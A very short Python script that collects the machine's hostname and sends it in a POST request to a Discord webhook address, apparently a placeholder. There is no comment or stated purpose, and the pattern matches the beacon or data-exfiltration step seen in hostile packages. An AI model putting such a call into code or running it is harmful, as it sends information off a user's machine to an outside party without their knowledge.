import json
import socket
import urllib.request

body = json.dumps({"content": socket.gethostname()}).encode()
urllib.request.urlopen("https://discord.com/api/webhooks/1/x", data=body)
